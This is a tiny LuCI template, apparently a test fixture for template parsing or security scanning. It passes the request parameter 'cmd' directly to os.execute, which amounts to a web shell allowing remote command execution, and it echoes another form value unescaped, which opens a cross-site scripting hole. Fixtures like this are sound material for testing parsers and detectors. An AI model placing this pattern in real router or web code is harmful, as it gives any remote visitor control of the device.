<%
local cmd = luci.http.formvalue("cmd")
%>
<p>it's <b>bold</b> & "quoted</p>
<%= luci.http.formvalue("x") %>
<% os.execute(cmd) -%>
